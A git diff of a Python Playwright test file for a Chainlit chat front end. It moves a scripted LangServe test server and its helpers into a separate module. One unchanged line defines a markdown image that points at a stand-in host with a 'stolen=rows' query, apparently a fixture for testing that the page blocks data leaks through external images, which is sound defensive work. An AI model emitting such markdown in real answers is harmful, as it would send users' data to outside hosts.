@@ -3,34 +3,23 @@
 import asyncio
 import re
 import socket
-import threading
-from collections.abc import AsyncIterator, Callable, Generator, Iterator
-from contextlib import contextmanager
+from collections.abc import AsyncIterator, Callable, Iterator
 from pathlib import Path
-from typing import Any
 
 import httpx
 import pytest
-import uvicorn
-from fastapi import FastAPI
-from langchain_core.runnables import RunnableGenerator
-from langserve import add_routes  # pyright: ignore[reportUnknownVariableType]
 from playwright.sync_api import Page, expect
-from sse_starlette.sse import AppStatus
+from scripted_service import STOP_LIMIT_S, ScriptedService, answered, ask
 
 from chainlit_app import launch
 from serving.schema import (
     MAX_QUESTION,
-    Answer,
-    Answered,
     Citation,
-    DatabaseInfo,
     Event,
     Failed,
     PassagesFound,
     Query,
     Question,
-    Readiness,
     RowsRead,
     SqlWritten,
     StepFinished,
@@ -39,7 +28,6 @@ from serving.schema import (
 )
 from serving.settings import load_settings
 
-STOP_LIMIT_S = 15.0
 EXTERNAL_IMAGE = "![x](http://stranger.example/x.png?stolen=rows)"
 PASSAGE = Citation(
     number=1,
@@ -63,13 +51,6 @@ ROWS = Query(
     truncated=False,
     elapsed_s=0.002,
 )
-
-
-def answered(text: str, **values: Any) -> Answered:
-    given: dict[str, Any] = {"status": "answered", "route": "chat", "models": {"chat": "scripted"}}
-    return Answered(
-        answer=Answer.model_validate({**given, "answer": text, "thread_id": "thread-1", **values})
-    )
 
 
 async def cite(_: Question) -> AsyncIterator[Event]:
@@ -106,105 +87,14 @@ async def crawl(_: Question) -> AsyncIterator[Event]:
     await asyncio.sleep(STOP_LIMIT_S * 2)
 
 
-async def echo(question: Question) -> AsyncIterator[Event]:
-    yield answered(f"Heard {question.question}.")
-
-
 SCRIPTS = {"cite": cite, "repair": repair, "fail": fail, "crawl": crawl}
-
-
-class ScriptedService:
-    """A LangServe service on a real port; a question names the script that it plays, or is echoed.
-
-    `asked` are the questions as they came; `stopped` is set when a stream was left on the way.
-    """
-
-    def __init__(self) -> None:
-        self.asked: list[Question] = []
-        self.stopped = threading.Event()
-        self.port = 0
-
-    @contextmanager
-    def running(self) -> Generator[None]:
-        """Serve at the same port as before, so that a page finds the service again."""
-        AppStatus.should_exit_event = None  # sse-starlette binds it to the first loop it sees
-        AppStatus.should_exit = False
-        listener = socket.create_server(("127.0.0.1", self.port))
-        self.port = listener.getsockname()[1]
-        config = uvicorn.Config(
-            self._app(),
-            log_level="critical",
-            lifespan="off",
-            ws="none",
-            timeout_graceful_shutdown=1,
-        )
-        server = uvicorn.Server(config)
-        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
-        thread.start()
-        try:
-            yield
-        finally:
-            server.should_exit = True
-            thread.join(STOP_LIMIT_S)
-            listener.close()
-
-    def _app(self) -> FastAPI:
-        app = FastAPI()
-
-        async def ready() -> Readiness:
-            databases = [DatabaseInfo(name=name, description="") for name in ("demo", "stock")]
-            return Readiness(ready=True, models={}, databases=databases, collections=["default"])
-
-        app.get("/ready")(ready)
-        agent = RunnableGenerator(self._play).with_types(input_type=dict[str, Any])
-        add_routes(app, agent, path="/agent", enabled_endpoints=["stream"])
-        return app
-
-    async def _play(self, questions: AsyncIterator[Any]) -> AsyncIterator[dict[str, Any]]:
-        async for sent in questions:
-            question = Question.model_validate(dict(sent))
-            self.asked.append(question)
-            try:
-                async for event in SCRIPTS.get(question.question, echo)(question):
-                    yield event.model_dump(mode="json")
-            except (asyncio.CancelledError, GeneratorExit):
-                self.stopped.set()
-                raise
 
 
 @pytest.fixture(scope="module")
 def service() -> Iterator[ScriptedService]:
-    scripted = ScriptedService()
+    scripted = ScriptedService(SCRIPTS)
     with scripted.running():
         yield scripted
-
-
-@pytest.fixture(scope="module")
-def page(
-    service: ScriptedService,
-    start: Callable[[list[str], dict[str, str], list[str]], Path],
-    tmp_path_factory: pytest.TempPathFactory,
-) -> Iterator[str]:
-    """The page's address; what it prints is free of tracebacks when the tests are over."""
-    settings = load_settings()
-    own = {"port": 0, "api_url": f"http://127.0.0.1:{service.port}"}
-    page = launch.command(
-        settings.model_copy(
-            update={
-                "data": tmp_path_factory.mktemp("data"),
-                "page": settings.page.model_copy(update=own),
-            }
-        )
-    )
-    log = start(page.argv, page.environment, [f"{page.address}/favicon"])
-    yield page.address
-    assert "Traceback" not in log.read_text(encoding="utf-8")
-
-
-def ask(tab: Page, question: str) -> None:
-    tab.locator("#chat-input").click()
-    tab.keyboard.insert_text(question)
-    tab.locator("#chat-submit").click()  # which waits until the page is connected
 
 
 def test_a_citation_opens_its_passage_beside_the_answer(
